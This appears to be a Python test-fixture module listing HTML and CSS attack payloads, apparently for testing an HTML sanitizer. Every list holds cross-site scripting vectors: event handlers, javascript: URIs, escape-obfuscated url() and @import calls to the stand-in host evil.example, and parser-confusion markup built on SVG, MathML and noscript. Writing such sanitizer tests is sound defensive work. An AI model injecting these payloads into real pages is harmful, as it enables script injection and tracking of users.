"""More HTML that attacks: each handler, each way of CSS to fetch, each element that loads or runs.

``evil.example`` stands for a server that notes who asks it.
"""

from __future__ import annotations

A = "http://evil.example/a"
_HANDLERS = """
onabort onafterprint onanimationend onanimationstart onauxclick onbeforeinput onbeforematch
onbeforeprint onbeforetoggle onbeforeunload onblur oncanplay onclick
oncontentvisibilityautostatechange
oncontextmenu oncopy oncut ondrag onended onerror onfocus onfocusin onhashchange oninput oninvalid
onkeydown onload onloadstart onmessage onmouseenter onmouseover onpageshow onpaste onpointerenter
onpointerover onpointerrawupdate onpopstate onreset onresize onscroll onscrollend
onscrollsnapchange onsearch onselect ontoggle ontransitionend ontransitionrun onunload onwheel
"""
HANDLERS = [
    f"<img src=x {name}=alert(1)><body {name}=alert(1)><details open {name}='alert(1)'>x</details>"
    f"<input autofocus {name}=alert(1)><video {name}=alert(1)><source {name}=alert(1)></video>"
    for name in _HANDLERS.split()
]
_VALUES = [
    f"url({A})",
    f"url('{A}')",
    f'URL( "{A}" )',
    f"u\\72l({A})",
    f"\\75\\72\\6c({A})",
    "url(\\68ttp://evil.example/a)",
    f"image-set(url({A}) 1x,url({A}) 2x)",
    f"-webkit-image-set(url({A}) 1x)",
    f"cross-fade(url({A}),url({A}),50%)",
    f"image({A})",
    f"src('{A}')",
    f"element(#x),url({A})",
    f"light-dark(url({A}),url({A}))",
    f"linear-gradient(red,blue),url({A})",
    f"linear-gradient(url({A}),red)",
    f"var(--x,url({A}))",
    f"env(x,url({A}))",
    f"attr(data-x url,url({A}))",
    f"if(style(--x):url({A});else:url({A}))",
    f"conic-gradient(red,blue),url({A}",
]
STYLES = [
    f'<p data-x="{A}" style="--x:url({A});background:{value.replace(chr(34), "&quot;")}">x</p>'
    f"<style>p{{background-image:{value}}} p::before{{content:{value}}}</style>"
    for value in _VALUES
]
_PROPERTIES = """
-webkit-border-image -webkit-box-reflect -webkit-mask -webkit-mask-box-image border-image-source
clip-path color content cursor fill filter list-style-image marker-end mask mask-border-source
mask-image offset-path outline-color shape-outside src stroke symbols text-decoration-color
view-transition-name --c --n --w --k --isw --iso
"""
PROPERTIES = [
    f'<div style="{name}:url({A})">x</div><style>div{{{name}:red url({A})}}</style>'
    for name in _PROPERTIES.split()
]
_AT_RULES = [
    f"@import url({A});",
    f"@import '{A}' layer(x);",
    f"@imp\\6frt '{A}';",
    f"@charset 'x';@import \"{A}\";",
    f"@font-face{{font-family:x;src:url({A})}}p{{font-family:x}}",
    f"@font-palette-values --x{{font-family:x;src:url({A})}}",
    f"@layer x{{p{{background:url({A})}}}}",
    f"@supports(color:red){{p{{background:url({A})}}}}",
    f"@container(min-width:0){{p{{background:url({A})}}}}",
    f"@scope(body){{p{{background:url({A})}}}}",
    f"@starting-style{{p{{background:url({A})}}}}",
    f"@property --x{{syntax:'<url>';inherits:true;initial-value:url({A})}}",
    f"@counter-style x{{system:cyclic;symbols:url({A})}}ul{{list-style:x}}",
    f"@keyframes x{{to{{background:url({A})}}}}p{{animation:x 1s}}",
    f"@page{{background:url({A})}}",
    f"@media(prefers-color-scheme:dark){{p{{background:url({A})}}}}",
    f"@media(prefers-color-scheme:light){{@import '{A}';p{{background:url({A})}}}}",
    f"@media screen{{@media(min-width:0){{@media all{{p{{background:url({A})}}}}}}}}",
    f"p{{color:red;&:hover,&{{background:url({A})}}}}",
    f":root{{--c:url({A})}}*{{background:var(--c)}}",
    "*{color:red}</style><script>alert(1)</script><style>",
    "@media </style><img src=x onerror=alert(1)>{p{color:red}}",
    "@media (prefers-color-scheme:dark</style><script>alert(1)</script>){p{color:red}}",
    "p{color:rgb(1 2 3/</style><script>alert(1)</script>)}",
    "p{background:hsl(1 2% 3%);--n:</style><script>alert(1)</script>}",
]
RULES = [f"<style>{rule}</style><p>x</p><ul><li>x</ul>" for rule in _AT_RULES]
_COLOURS = [
    f'red"]{{}}*{{background:url({A})}}',
    f"#fff)}}@import url({A});",
    "#fff</style><script>alert(1)</script>",
    "javascript:alert(1)",
    f"url({A})",
    "red&quot;]{}</style><img src=x onerror=alert(1)>",
    f"light-dark(red,url({A}))",
    "\\22]{}*{background:url(//evil.example/a)}",
]
COLOURS = [
    f"<table bgcolor='{value}'><tr><td bgcolor='{value}' color='{value}'>x</table>"
    f"<font color='{value}'>x</font><body bgcolor='{value}' text='{value}' link='{value}'>"
    for value in _COLOURS
]
ELEMENTS = [
    f'<img src="{A}.svg#x" usemap="#m"><map name=m><area href="javascript:alert(1)"></map>',
    '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=alert(1)/>">',
    f"<image href={A}><image src={A} onerror=alert(1)>",
    f'<img crossorigin=use-credentials attributionsrc="{A}" src=x>',
    f'<a href="https://ok.example" attributionsrc="{A}" ping={A}>x</a>',
    f"<svg><image href={A} /><feImage href={A} /><use href={A}#x /></svg>",
    f"<svg><script href={A}></script><script>alert(1)</script></svg>",
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe>'
    "</foreignObject></svg>",
    f'<svg><style>@import "{A}";</style><a href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate xlink:href=#a attributeName=href from="javascript:alert(1)" />'
    "<a id=a>x</a></svg>",
    '<math href="javascript:alert(1)"><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
    f"<math><mglyph src={A}></mglyph></math>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<iframe src=\"javascript:alert(1)\"></iframe><iframe src='data:text/html,<script>alert(1)'>",
    f"<frameset onload=alert(1)><frame src={A}></frameset>",
    f"<fencedframe src={A}></fencedframe><portal src={A}></portal>",
    f'<object type="text/html" data="javascript:alert(1)"><param name=url value={A}></object>',
    f"<embed type=image/svg+xml src={A}><bgsound src={A}>",
    f"<link rel=modulepreload href={A}><link rel=preconnect href={A}><link rel=icon href={A}>",
    f"<link rel=prerender href={A}><link rel=prefetch href={A}><link rel=manifest href={A}>",
    f'<script type=speculationrules>{{"prefetch":[{{"urls":["{A}"]}}]}}</script>',
    f'<script type=importmap>{{"imports":{{"x":"{A}"}}}}</script><script type=module>'
    f'import "x"</script>',
    f"<script src={A}></script><script async defer nomodule src={A}></script>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">"
    "<script>alert(1)",
    f'<meta http-equiv=refresh content="0;url=javascript:alert(1)">'
    f"<meta http-equiv=Link content='<{A}>;rel=stylesheet'>",
    f"<meta http-equiv=set-cookie content=sessionid=x>"
    f"<meta name=referrer content=unsafe-url><img src={A}>",
    f'<base href="{A}"><base target=_top><img src=y><a href=z>x</a>',
    f"<form id=f action={A}></form><button form=f formaction=javascript:alert(1)>x</button>",
    f"<form action={A} method=dialog><input type=image src={A} formtarget=_top></form>",
    "<isindex type=image src=1 onerror=alert(1)><keygen autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1) onfinish=alert(1) loop=1 width=0>x</marquee>",
    "<div popover id=p onbeforetoggle=alert(1)>x</div><button popovertarget=p>x</button>",
    "<dialog open oncancel=alert(1) onclose=alert(1)>x</dialog>",
    f"<p><slot></slot><template shadowrootmode=open><script>alert(1)</script>"
    f"<img src={A}></template>",
    '<x-y is="a-b" onfocus=alert(1) tabindex=0 autofocus>x</x-y>',
    "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
    "<select><template><img src=x onerror=alert(1)></template><option><script>"
    "alert(1)</script></select>",
    "<table><colgroup><svg><title><style><img src=x onerror=alert(1)></style></title>"
    "</svg></table>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    '<title><a title="</title><img src=x onerror=alert(1)>"></title>',
    "<![CDATA[><img src=x onerror=alert(1)>]]><?xml-stylesheet href='http://evil.example/a'?>",
    "<!--><img src=x onerror=alert(1)>--><!--!><script>alert(1)</script>--!>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a><a href='\x01javascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a><a href='//evil.example/a' target=_top>x</a>",
    "<a href='blob:http://x/y'>x</a><a href='file:///etc/passwd'>x</a>"
    "<a href='view-source:x'>x</a>",
    "<p style='width:1px;height:1px;background:red;x:expression(alert(1));-o-link:\"j"
    "avascript:alert(1)\"'>",
]
MORE = [*HANDLERS, *STYLES, *PROPERTIES, *RULES, *COLOURS, *ELEMENTS]
